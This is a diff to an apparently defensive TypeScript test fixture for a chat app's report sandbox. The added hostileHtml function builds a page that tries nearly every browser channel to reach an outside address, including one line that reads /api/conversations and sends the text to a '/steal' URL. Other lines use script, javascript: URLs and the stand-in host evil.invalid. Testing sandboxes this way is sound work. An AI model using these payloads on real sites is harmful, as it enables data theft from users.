@@ -18,7 +18,30 @@ export const HOSTILE_ANSWER = [
   "[[S:1]] [[S:999999999]] {{constructor.constructor('return 1')()}}",
 ].join("\n\n");
 
-export const HOSTILE_HTML = `<!doctype html><html><body onload="${HARM}"><script>${HARM};fetch("http://evil.invalid")</script><img src="http://evil.invalid/a.png"></body></html>`;
+/** Everything that a page can try, against `other`: an address that counts its visitors. */
+export function hostileHtml(other: string): string {
+  const host = other.replace(/^https?:/, "");
+  return `<!doctype html><html><head><title>Report</title>
+<base href="${other}/"><meta http-equiv="refresh" content="0;url=${other}/refresh">
+<link rel="preconnect" href="${other}"><link rel="dns-prefetch" href="${host}"><link rel="prefetch" href="${other}/p">
+<link rel="stylesheet" href="${other}/a.css"><link rel="icon" href="${other}/icon.png">
+<style>@import url(${other}/b.css);@font-face{font-family:x;src:url(${other}/x.woff)}
+h1{color:rgb(1,2,3);font-family:x;background:url(${other}/c.png)}</style>
+<script>${HARM};try{top.wasHarmed=1;parent.wasHarmed=1}catch{};fetch("${other}/f");new WebSocket("ws:${host}");
+new Image().src="${other}/i";navigator.sendBeacon("${other}/b");location="${other}/l";top.location="${other}/t";
+new RTCPeerConnection({iceServers:[{urls:"stun:${host.slice(2)}"}]}).createDataChannel("x");
+fetch("/api/conversations").then((r)=>r.text()).then((t)=>fetch("${other}/steal?"+t))</script>
+<script src="${other}/s.js"></script></head><body onload="${HARM}" background="${other}/bg.png">
+<h1 onmouseover="${HARM}">A hostile report</h1>
+<img src="${other}/a.png" srcset="${other}/b.png 2x" onerror="${HARM}"><video src="${other}/v" poster="${other}/v.png"></video>
+<iframe src="${other}/frame"></iframe><iframe srcdoc="<script>${HARM.replaceAll('"', "'")}</script>"></iframe>
+<iframe src="/api/conversations"></iframe><object data="${other}/o"></object><embed src="${other}/e">
+<svg><image href="${other}/svg.png"/><use href="${other}/u.svg#x"/><a href="javascript:${HARM}"><text>x</text></a></svg>
+<form action="${other}/form" method="post"><input name="q" autofocus onfocus="this.form.submit()"><button>Send</button></form>
+<a id="top" href="${other}/top" target="_top">Leave</a> <a id="new" href="${other}/new" target="_blank" ping="${other}/ping">Open</a>
+<a id="app" href="/c/none" target="_parent">App</a><div style="background:url(${other}/d.png)">A styled line</div>
+</body></html>`;
+}
 
 export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="${HARM}"><script>${HARM}</script><image href="http://evil.invalid/a.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${HARM}"/></foreignObject><rect width="90" height="60" fill="teal"/></svg>`;
 
